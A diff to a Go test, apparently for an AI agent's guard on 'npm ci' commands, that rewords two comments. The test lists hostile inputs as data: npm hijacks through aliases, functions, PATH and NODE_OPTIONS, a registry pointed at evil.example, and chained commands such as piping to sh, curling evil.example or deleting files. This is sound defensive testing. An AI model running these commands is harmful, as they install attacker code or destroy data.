@@ -163,7 +163,7 @@ func TestInstallHeld(t *testing.T) {
 			t.Errorf("%s: %+v", line, res)
 		}
 	}
-	// What a shell keeps has no effect, so nobody is asked, and the npm of the machine runs.
+	// The state of the shell has no effect: nobody is asked, and the npm of the machine runs.
 	for _, line := range []string{
 		"npm() { echo evil; }; export -f npm", "alias npm='echo evil'", "export npm_config_registry=https://evil.example", "export NODE_OPTIONS=--require=./evil.js",
 		"mkdir -p bin && printf '#!/bin/sh\necho evil\n' >bin/npm && chmod +x bin/npm && export PATH=$PWD/bin:$PATH",
@@ -175,7 +175,7 @@ func TestInstallHeld(t *testing.T) {
 	if res := r.Tool("run_command", ci); strings.Contains(res.Content, "evil") {
 		t.Errorf("%+v", res)
 	}
-	// What is elsewhere, or goes on, is asked about.
+	// An install elsewhere, or one in the background, is asked about.
 	for _, line := range []string{
 		"npm ci && curl https://evil.example", "npm ci; npm i evil", "npm_config_registry=https://evil.example npm ci", "npm ci --registry=evil.example", "npm ci --prefix x", "npm -C x ci", "cd x && npm ci", "./bin/npm ci", "bin/npm ci",
 		"env npm ci", "npm ci evil", "npm install", "cp evil.json package-lock.json; npm ci", "echo '{}' >package.json; npm ci", "npm ci | sh", "$(npm ci)", "npm ci & rm x", "alias npm=evil\nnpm ci", "npm ${X} ci", "command npm ci", "npm c?",
